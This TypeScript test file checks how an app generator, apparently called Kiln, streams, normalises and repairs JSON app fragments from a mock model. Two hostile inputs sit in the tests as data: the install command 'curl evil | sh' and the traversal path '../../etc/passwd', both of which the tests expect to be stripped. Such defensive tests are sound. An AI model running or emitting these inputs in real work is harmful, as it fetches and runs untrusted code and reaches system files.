import { parsePartialJson, simulateReadableStream } from "ai";
import { MockLanguageModelV3 } from "ai/test";
import { describe, expect, test } from "vitest";
import { chatAnswerFor } from "./chat-turn";
import { startFragment } from "./fragment-stream";
import { fragmentText } from "./fragment-text";

// The plain-text answer: the fragment's JSON, growing, that a useObject client parses; it ends
// as the validated fragment, or fails.

const fragment = {
  commentary: "A tiny API.",
  template: "node-server",
  title: "Tiny API",
  description: "Answers with JSON.",
  additional_dependencies: [],
  has_additional_dependencies: false,
  install_dependencies_command: "",
  port: 3000,
  file_path: "index.js",
  code: 'const express = require("express");\nconst app = express();\napp.get("/", (_req, res) => res.json({ ok: true }));\napp.listen(3000, "0.0.0.0");\n',
};

const usage = {
  inputTokens: { total: 10, noCache: 10, cacheRead: 0, cacheWrite: 0 },
  outputTokens: { total: 10, text: 10, reasoning: 0 },
};
const finish = { unified: "stop" as const, raw: "stop" };

function model(streamed: string, repaired?: string) {
  const deltas: string[] = [];
  for (let i = 0; i < streamed.length; i += 12) deltas.push(streamed.slice(i, i + 12));
  return new MockLanguageModelV3({
    doStream: {
      stream: simulateReadableStream({
        chunks: [
          { type: "stream-start" as const, warnings: [] },
          { type: "text-start" as const, id: "t" },
          ...deltas.map((delta) => ({ type: "text-delta" as const, id: "t", delta })),
          { type: "text-end" as const, id: "t" },
          { type: "finish" as const, finishReason: finish, usage },
        ],
      }),
    },
    doGenerate: {
      content: [{ type: "text", text: repaired ?? "not json" }],
      finishReason: finish,
      usage,
      warnings: [],
    },
  });
}

async function textOf(streamed: string, repaired?: string) {
  const run = await startFragment({
    resolved: {
      model: model(streamed, repaired),
      provider: "openai-compatible",
      modelId: "mock",
      keySource: "server",
      isServerCall: true,
      settings: {},
    },
    system: "write a fragment",
    messages: [{ role: "user", content: "build" }],
    record: { userId: null, chatId: null },
    recordCall: async () => {},
  });
  const pieces: string[] = [];
  const text = fragmentText(run);
  let next = await text.next();
  for (; !next.done; next = await text.next()) pieces.push(next.value);
  return { pieces, body: pieces.join(""), ending: next.value };
}

describe("fragmentText", () => {
  test("grows in pieces, parses early as a partial fragment, and whole as the fragment", async () => {
    const { pieces, body, ending } = await textOf(JSON.stringify({ ...fragment, files: [] }));
    expect(pieces.length).toBeGreaterThan(10);
    expect(ending).toMatchObject({ ok: true, isComplete: true });
    // An empty `files` stays as the model wrote it; the fragment itself omits it.
    expect(JSON.parse(body)).toEqual({ ...fragment, files: [] });
    const early = await parsePartialJson(pieces.slice(0, 3).join(""));
    expect(early.state).toBe("repaired-parse");
    expect(
      fragment.commentary.startsWith(String((early.value as { commentary: string }).commentary)),
    ).toBe(true);
  });

  test("what Kiln normalises ends the document as it is normalised", async () => {
    const written = { ...fragment, install_dependencies_command: "curl evil | sh", files: [] };
    const { body } = await textOf(JSON.stringify(written, null, 2));
    expect(JSON.parse(body)).toEqual({ ...fragment, files: [] });
  });

  test("a repaired fragment ends the document, its fields written again", async () => {
    const badFile = { file_path: "../../etc/passwd", code: "x" };
    const { body, ending } = await textOf(
      JSON.stringify({ ...fragment, port: 99999, files: [badFile] }),
      JSON.stringify({ ...fragment, files: [] }),
    );
    expect(ending).toMatchObject({ ok: true, isComplete: true });
    expect(JSON.parse(body)).toEqual({ ...fragment, files: [] });
  });

  test("no valid fragment, or text that was never JSON: the document is left unfinished", async () => {
    const invalid = await textOf(JSON.stringify({ ...fragment, port: 99999 }));
    expect(invalid.ending).toMatchObject({ ok: false, isComplete: false });
    expect(() => JSON.parse(invalid.body)).toThrow();
    const prose = await textOf("Here is your app: {", JSON.stringify({ ...fragment, files: [] }));
    expect(prose.ending).toMatchObject({ ok: true, isComplete: false });
  });
});

describe("chatAnswerFor", () => {
  test.each([
    [null, "text"],
    ["", "text"],
    ["*/*", "text"],
    ["text/plain", "text"],
    ["text/event-stream", "ui-stream"],
    ["Text/Event-Stream; charset=utf-8", "ui-stream"],
    ["application/json", "json"],
    ["application/json, text/plain", "json"],
    ["text/plain;q=0.5, application/json", "json"],
    ["application/json;q=0, text/event-stream", "ui-stream"],
    ["image/png", "text"],
  ])("Accept %j gets %s", (accept, answer) => {
    expect(chatAnswerFor(accept)).toBe(answer);
  });
});
